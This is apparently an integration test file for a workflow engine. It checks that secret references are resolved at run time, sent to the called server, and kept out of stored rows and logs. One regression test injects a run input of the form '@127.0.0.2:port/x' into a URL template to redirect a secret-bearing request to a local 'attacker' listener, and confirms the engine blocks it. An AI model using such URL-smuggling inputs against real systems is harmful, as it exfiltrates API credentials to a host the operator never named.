"""Secret references through the real stack: the ``composer-workers`` process resolves
``{{ secret.NAME }}`` from its environment and its secrets directory at run time, the
server called gets the values, and no row of the run, nor the workers' log, ever holds
one (docs/secrets.md)."""

from __future__ import annotations

import asyncio
import contextlib
import os
import sys
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from aiohttp import web
from aiohttp.test_utils import TestServer

import composer_repo as repo
from composer_core.model import RunStatus
from composer_executors import EnvironmentSecrets, HttpPolicy, create_http_session
from composer_workers.handlers import http_handler
from tests.integration.e2e.conftest import TOKEN, Stack

API_TOKEN = "sk_live_9f8e7d6c5b4a39281706"  # COMPOSER_SECRET_API_TOKEN
SIGNING_KEY = "whsec_0a1b2c3d4e5f60718293"  # a file SIGNING_KEY in COMPOSER_SECRETS_DIR
VALUES = (API_TOKEN, SIGNING_KEY)


@dataclass
class Received:
    requests: list[dict[str, Any]] = field(default_factory=list)


RECEIVED = web.AppKey("received", Received)


async def hook(request: web.Request) -> web.Response:
    request.app[RECEIVED].requests.append(
        {
            "path": request.path,
            "authorization": request.headers.get("Authorization"),
            "signature": request.headers.get("X-Signature"),
            "body": await request.json(),
        }
    )
    # An API that echoes what it was sent: the node's output must not carry it back.
    return web.json_response({"seen": request.headers.get("Authorization")})


async def refuse(request: web.Request) -> web.Response:
    return web.Response(status=403, text=f"token {request.headers.get('Authorization')} revoked")


@pytest.fixture
async def server() -> AsyncIterator[TestServer]:
    app = web.Application()
    app[RECEIVED] = Received()
    app.router.add_post("/hook/{order}", hook)
    app.router.add_post("/refuse", refuse)
    srv = TestServer(app, host="127.0.0.1", port=0)
    await srv.start_server()
    yield srv
    await srv.close()


@dataclass
class WorkersProcess:
    proc: asyncio.subprocess.Process
    log: list[str]


@pytest.fixture
async def workers(stack: Stack, tmp_path: Path) -> AsyncIterator[WorkersProcess]:
    """``python -m composer_workers`` dialling the stack's coordinator, with one secret in
    its environment and one in its secrets directory."""
    secrets_dir = tmp_path / "secrets"
    secrets_dir.mkdir()
    (secrets_dir / "SIGNING_KEY").write_text(SIGNING_KEY + "\n")
    env = {k: v for k, v in os.environ.items() if not k.startswith("COMPOSER_")} | {
        "COMPOSER_REDIS_URL": stack.redis_url,
        "COMPOSER_REDIS_PREFIX": stack.prefix,
        "COMPOSER_GRPC_ADDR": stack.grpc_target,
        "COMPOSER_WORKER_TOKEN": TOKEN,
        "COMPOSER_HTTP_ALLOW_PRIVATE": "true",
        "COMPOSER_LOG_LEVEL": "DEBUG",
        "COMPOSER_SECRET_API_TOKEN": API_TOKEN,
        "COMPOSER_SECRETS_DIR": str(secrets_dir),
    }
    proc = await asyncio.create_subprocess_exec(
        sys.executable, "-m", "composer_workers", env=env, stderr=asyncio.subprocess.PIPE
    )
    log: list[str] = []
    ready = asyncio.Event()

    async def read() -> None:
        assert proc.stderr is not None
        while line := await proc.stderr.readline():
            log.append(line.decode())
            if "serving http, python" in log[-1]:
                ready.set()

    reader = asyncio.create_task(read(), name="workers-log")
    started = asyncio.create_task(ready.wait(), name="workers-ready")
    try:
        # Ready, or the process ended (its log says why), or 30 s.
        await asyncio.wait([reader, started], timeout=30, return_when=asyncio.FIRST_COMPLETED)
        started.cancel()
        assert ready.is_set(), f"the workers did not start: {''.join(log)}"
        yield WorkersProcess(proc, log)
    finally:
        with contextlib.suppress(ProcessLookupError):
            proc.terminate()
        await asyncio.wait_for(proc.wait(), 30)
        await asyncio.wait_for(reader, 10)


async def stored_rows(stack: Stack, run_id: str) -> list[str]:
    """Every row the run left, as text: the run, its tasks, its events, its outbox rows."""
    rows: list[str] = []
    async with repo.transaction(stack.pool) as conn:
        for table, key in (
            ("workflow_runs", "id"),
            ("task_instances", "run_id"),
            ("workflow_events", "run_id"),
            ("outbox", "run_id"),
        ):
            found = await conn.fetch(
                f"SELECT to_jsonb(t)::text AS row FROM {table} t WHERE {key} = $1", run_id
            )
            rows.extend(r["row"] for r in found)
    return rows


def leaks(texts: list[str]) -> list[str]:
    return [t for t in texts if any(v in t for v in VALUES)]


async def test_the_server_gets_the_secrets_and_no_row_or_log_holds_them(
    stack: Stack, server: TestServer, workers: WorkersProcess
) -> None:
    await stack.deploy(
        {
            "id": "secret-call",
            "nodes": [
                {
                    "id": "call",
                    "type": "HTTP",
                    "spec": {
                        "method": "POST",
                        "url": f"{server.make_url('/hook/')}{{{{ input.order }}}}",
                        "headers": {
                            "Authorization": "Bearer {{ secret.API_TOKEN }}",
                            "X-Signature": "{{ secret.SIGNING_KEY }}",
                        },
                        "body": {"order": "{{ input.order }}", "note": "{{ input.note }}"},
                    },
                },
                {
                    "id": "sign",
                    "type": "PYTHON",
                    "spec": {
                        "code": (
                            "def main(input):\n"
                            "    key = input['key']\n"
                            "    return {'key_length': len(key), 'echo': key}\n"
                        ),
                        "input": {"key": "{{ secret.SIGNING_KEY }}"},
                    },
                },
            ],
            "edges": [{"from": "call", "to": "sign"}],
            "output": {
                "seen": "{{ tasks.call.output.body.seen }}",
                "sign": "{{ tasks.sign.output }}",
            },
        }
    )
    # A run input holding a reference's text is data: it is sent as it is, never resolved.
    started = await stack.engine.start(
        "secret-call", input={"order": "A-1", "note": "{{secret.API_TOKEN}}"}
    )
    run = await stack.wait_run(started.run_id)
    assert run.status is RunStatus.SUCCEEDED, run.error

    assert server.app[RECEIVED].requests == [
        {
            "path": "/hook/A-1",
            "authorization": f"Bearer {API_TOKEN}",
            "signature": SIGNING_KEY,
            "body": {"order": "A-1", "note": "{{secret.API_TOKEN}}"},
        }
    ]
    # What the server and the code handed back is scrubbed to the references.
    assert run.output == {
        "seen": "Bearer {{secret.API_TOKEN}}",
        "sign": {"key_length": len(SIGNING_KEY), "echo": "{{secret.SIGNING_KEY}}"},
    }

    tasks = await stack.tasks_of(started.run_id)
    assert tasks["call"].input["headers"] == {
        "Authorization": "Bearer {{secret.API_TOKEN}}",
        "X-Signature": "{{secret.SIGNING_KEY}}",
    }
    assert sorted(tasks["call"].input["$secrets"], key=lambda spot: spot["name"]) == [
        {"path": ["headers", "Authorization"], "at": 7, "name": "API_TOKEN"},
        {"path": ["headers", "X-Signature"], "at": 0, "name": "SIGNING_KEY"},
    ]
    rows = await stored_rows(stack, started.run_id)
    assert any("Bearer {{secret.API_TOKEN}}" in r for r in rows)
    assert any("{{secret.SIGNING_KEY}}" in r for r in rows)
    assert leaks(rows) == []
    assert leaks(workers.log) == []


async def test_a_failed_call_and_a_missing_secret_store_no_value(
    stack: Stack, server: TestServer, workers: WorkersProcess
) -> None:
    await stack.deploy(
        {
            "id": "secret-fails",
            "nodes": [
                {"id": "f", "type": "FORK"},
                {
                    "id": "refused",
                    "type": "HTTP",
                    "spec": {
                        "method": "POST",
                        "url": str(server.make_url("/refuse")),
                        "headers": {"Authorization": "Bearer {{ secret.API_TOKEN }}"},
                    },
                    "retry": {"max_attempts": 1},
                },
                {
                    "id": "unset",
                    "type": "HTTP",
                    "spec": {
                        "url": str(server.make_url("/refuse")),
                        "headers": {"Authorization": "Bearer {{ secret.NOT_SET }}"},
                    },
                },
            ],
            "edges": [{"from": "f", "to": "refused"}, {"from": "f", "to": "unset"}],
        }
    )
    started = await stack.engine.start("secret-fails")
    run = await stack.wait_run(started.run_id)
    assert run.status is RunStatus.FAILED
    tasks = await stack.tasks_of(started.run_id)

    refused = tasks["refused"]
    assert refused.error_code == "http_403"
    assert refused.error is not None
    assert "token Bearer {{secret.API_TOKEN}} revoked" in refused.error

    unset = tasks["unset"]
    assert unset.error_code == "secret_not_found"
    assert unset.attempt == 0  # permanent: not retried
    assert unset.error is not None
    assert unset.error.startswith("secret 'NOT_SET' is not set on the workers: set a file ")
    assert "COMPOSER_SECRET_NOT_SET" in unset.error

    assert server.app[RECEIVED].requests == []
    rows = await stored_rows(stack, started.run_id)
    assert leaks(rows) == []
    assert leaks(workers.log) == []


@dataclass
class Listener:
    """A local HTTP server that records every request it gets."""

    server: TestServer
    got: list[dict[str, Any]] = field(default_factory=list)


async def listen(host: str) -> Listener:
    async def record(request: web.Request) -> web.Response:
        listener.got.append({"path": request.path, "api_key": request.headers.get("X-Api-Key")})
        return web.json_response({"ok": True})

    app = web.Application()
    app.router.add_route("*", "/{tail:.*}", record)
    srv = TestServer(app, host=host, port=0)
    await srv.start_server()
    listener = Listener(srv)
    return listener


@pytest.fixture
async def api_host() -> AsyncIterator[Listener]:
    """The host the definition names."""
    listener = await listen("127.0.0.1")
    yield listener
    await listener.server.close()


@pytest.fixture
async def attacker() -> AsyncIterator[Listener]:
    """127.0.0.2, standing for the host an operator's run input points the call at."""
    listener = await listen("127.0.0.2")
    yield listener
    await listener.server.close()


async def test_a_run_input_cannot_send_a_secret_to_another_host(
    stack: Stack, api_host: Listener, attacker: Listener, workers: WorkersProcess
) -> None:
    """The finding: ``url: "http://host{{input.path}}"`` with a secret header, started with
    ``{"path": "@127.0.0.2:port/x"}``, sent the secret to 127.0.0.2. Validation now refuses
    such a url (tests/integration/api/test_definitions.py); a definition stored before that
    still runs, and the workers hold each request that carries a secret to its origin."""
    definition = {
        "id": "hijackable",
        "nodes": [
            {
                "id": "call",
                "type": "HTTP",
                "spec": {
                    "url": f"http://127.0.0.1:{api_host.server.port}{{{{input.path}}}}",
                    "headers": {"X-Api-Key": "{{ secret.API_TOKEN }}"},
                },
                "retry": {"max_attempts": 1},
            }
        ],
    }
    async with repo.transaction(stack.pool) as conn:  # stored before the rule: no validation
        await repo.create_definition(
            conn, "hijackable", name="hijackable", spec=definition, deploy=True
        )

    hijacked = await stack.engine.start(
        "hijackable", input={"path": f"@127.0.0.2:{attacker.server.port}/x"}
    )
    run = await stack.wait_run(hijacked.run_id)
    assert run.status is RunStatus.FAILED
    call = (await stack.tasks_of(hijacked.run_id))["call"]
    assert call.error_code == "invalid_spec"
    assert call.error is not None
    assert f"goes to http://127.0.0.2:{attacker.server.port}" in call.error
    assert "nothing was sent" in call.error
    assert attacker.got == [] and api_host.got == []

    fine = await stack.engine.start("hijackable", input={"path": "/orders/7"})
    run = await stack.wait_run(fine.run_id)
    assert run.status is RunStatus.SUCCEEDED, run.error
    assert api_host.got == [{"path": "/orders/7", "api_key": API_TOKEN}]
    assert attacker.got == []
    assert leaks(await stored_rows(stack, hijacked.run_id)) == []
    assert leaks(workers.log) == []


async def test_a_task_rendered_before_origins_were_recorded_gets_its_origin_at_lease(
    stack: Stack, server: TestServer
) -> None:
    """An HTTP task whose input was rendered by an engine older than the origin rule has
    ``$secrets`` but no ``$origin``; the workers refuse such an input. The lease adds the
    origin the definition spells out, so a run in flight across the upgrade goes on."""
    await stack.deploy(
        {
            "id": "upgraded",
            "nodes": [
                {
                    "id": "call",
                    "type": "HTTP",
                    "spec": {
                        "method": "POST",
                        "url": f"{server.make_url('/hook/')}{{{{ input.order }}}}",
                        "headers": {"Authorization": "Bearer {{ secret.API_TOKEN }}"},
                        "body": {"order": "{{ input.order }}"},
                    },
                    "retry": {"max_attempts": 1},
                }
            ],
        }
    )
    started = await stack.engine.start("upgraded", input={"order": "B-2"})
    async with repo.transaction(stack.pool) as conn:  # as the older engine stored it
        changed = await conn.execute(
            "UPDATE task_instances SET input = input - '$origin' WHERE run_id = $1",
            started.run_id,
        )
    assert changed == "UPDATE 1"
    policy = HttpPolicy(allow_private=True)
    secrets = EnvironmentSecrets.from_environ(
        {"COMPOSER_SECRET_API_TOKEN": API_TOKEN}, prefix="COMPOSER_SECRET_"
    )
    async with create_http_session(policy) as session:
        stack.worker({"http": http_handler(session, policy, secrets)})
        run = await stack.wait_run(started.run_id)
    assert run.status is RunStatus.SUCCEEDED, run.error
    received = server.app[RECEIVED].requests
    assert [(r["path"], r["authorization"]) for r in received] == [
        ("/hook/B-2", f"Bearer {API_TOKEN}")
    ]
